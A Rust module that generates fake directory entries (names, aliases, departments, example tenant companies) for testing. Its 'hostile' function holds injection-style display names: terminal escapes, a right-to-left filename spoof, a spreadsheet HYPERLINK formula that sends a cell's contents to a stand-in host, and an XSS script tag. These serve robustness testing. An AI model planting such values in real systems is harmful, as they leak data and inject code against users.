//! Names of people, companies and places, and the hostile ones that any directory may hold.

const GIVEN: [&str; 64] = [
    "Anna",
    "Jonas",
    "Mei",
    "Oluwaseun",
    "Priya",
    "Lukas",
    "Sofia",
    "Mateo",
    "Aylin",
    "Noah",
    "Chiara",
    "Henrik",
    "Fatima",
    "Pavel",
    "Ingrid",
    "Tomás",
    "Zoë",
    "Karim",
    "Elif",
    "Marek",
    "Linnea",
    "Diego",
    "Hanna",
    "Yusuf",
    "Clara",
    "Emil",
    "Nadia",
    "Viktor",
    "Amara",
    "Leon",
    "Greta",
    "Samir",
    "Julia",
    "Felix",
    "Marta",
    "Andrei",
    "Lena",
    "Ravi",
    "Paula",
    "Stefan",
    "Ines",
    "Kofi",
    "Nora",
    "Tariq",
    "Eva",
    "Milan",
    "Sara",
    "Hugo",
    "Olga",
    "Ben",
    "Carla",
    "Dmitri",
    "Freya",
    "Goran",
    "Hiroko",
    "Ivan",
    "Jana",
    "Klaus",
    "Laura",
    "Minh",
    "Petra",
    "Quentin",
    "Rosa",
    "Uwe",
];

const FAMILY: [&str; 80] = [
    "Berger",
    "Novak",
    "Tanaka",
    "Adeyemi",
    "Sharma",
    "Weber",
    "Rossi",
    "García",
    "Yilmaz",
    "Jansen",
    "Ricci",
    "Larsen",
    "Haddad",
    "Dvořák",
    "Nilsen",
    "Silva",
    "Müller",
    "Aziz",
    "Kaya",
    "Kowalski",
    "Lind",
    "Fernandez",
    "Schmidt",
    "Demir",
    "Braun",
    "Holm",
    "Petrov",
    "Vogel",
    "Okafor",
    "Fischer",
    "Lange",
    "Khan",
    "Keller",
    "Wolf",
    "Nowak",
    "Popescu",
    "Becker",
    "Iyer",
    "Costa",
    "Huber",
    "Moreau",
    "Mensah",
    "Bakker",
    "Rahman",
    "Richter",
    "Horvat",
    "Lopez",
    "Dubois",
    "Ivanova",
    "Koch",
    "Ferrari",
    "Sokolov",
    "Dahl",
    "Marković",
    "Sato",
    "Dimitrov",
    "Krämer",
    "Schulz",
    "Hoffmann",
    "Nguyen",
    "Bauer",
    "Laurent",
    "Santos",
    "Peters",
    "Olsen",
    "Zimmer",
    "Brandt",
    "Simon",
    "Frank",
    "Winter",
    "Sommer",
    "Engel",
    "Roth",
    "Lorenz",
    "Seidel",
    "Arnold",
    "Graf",
    "Pohl",
    "Busch",
    "Kuhn",
];

const DEPARTMENTS: [&str; 10] = [
    "Sales",
    "Finance",
    "Production",
    "Logistics",
    "Engineering",
    "Human Resources",
    "Marketing",
    "IT",
    "Legal",
    "Customer Service",
];

/// Companies that Microsoft's documentation keeps for examples; none is a customer.
const COMPANIES: [(&str, &str); 6] = [
    ("contoso", "Contoso"),
    ("fabrikam", "Fabrikam"),
    ("adatum", "Adatum"),
    ("litware", "Litware"),
    ("proseware", "Proseware"),
    ("tailspintoys", "Tailspin Toys"),
];

const COMBINATIONS: usize = GIVEN.len() * FAMILY.len();
/// Coprime to [`COMBINATIONS`], so that neighbours by index share no family name.
const STEP: usize = 2_503;

/// A person's name and the part of the address before the `@`, which is unique by index.
pub(super) struct Name {
    pub(super) given: &'static str,
    pub(super) family: &'static str,
    pub(super) alias: String,
}

pub(super) fn of(seed: u64, index: usize) -> Name {
    let at = (index % COMBINATIONS * STEP + (seed % 5_000) as usize) % COMBINATIONS;
    let (given, family) = (GIVEN[at % GIVEN.len()], FAMILY[at / GIVEN.len()]);
    let mut alias = format!("{}.{}", ascii(given), ascii(family));
    if index >= COMBINATIONS {
        alias.push_str(&(index / COMBINATIONS + 1).to_string());
    }
    Name { given, family, alias }
}

pub(super) fn department(number: usize) -> &'static str {
    DEPARTMENTS[number % DEPARTMENTS.len()]
}

/// Domain label and display name of the tenant.
pub(super) fn company(seed: u64) -> (&'static str, &'static str) {
    COMPANIES[(seed % COMPANIES.len() as u64) as usize]
}

/// Display names that break careless programs: terminal escapes, direction marks, formulas, markup, great length.
pub(super) fn hostile(number: usize) -> String {
    match number % 6 {
        0 => "\u{1b}[31mRed Alert\u{1b}[0m\u{1b}]0;owned\u{7}".to_owned(),
        1 => "Anna \u{202e}gpj.regreB\u{202c}".to_owned(),
        2 => "=HYPERLINK(\"http://mail.example/?q=\"&A1,\"Open\")".to_owned(),
        3 => "<script>alert(1)</script> & \"Co\"".to_owned(),
        4 => "N".repeat(64 * 1024),
        _ => "line one\r\nline two\ttabbed \u{0}nul".to_owned(),
    }
}

fn ascii(name: &str) -> String {
    let plain = |letter: char| match letter {
        'á' | 'ä' => 'a',
        'ë' => 'e',
        'í' => 'i',
        'ü' => 'u',
        'ř' => 'r',
        'ć' => 'c',
        other => other,
    };
    name.chars().flat_map(char::to_lowercase).map(plain).collect()
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    #[test]
    fn no_two_people_share_an_alias() {
        let aliases: HashSet<_> = (0..20_000).map(|index| of(3, index).alias).collect();
        assert_eq!(aliases.len(), 20_000);
        assert!(aliases.iter().all(|alias| alias.is_ascii()));
    }
}
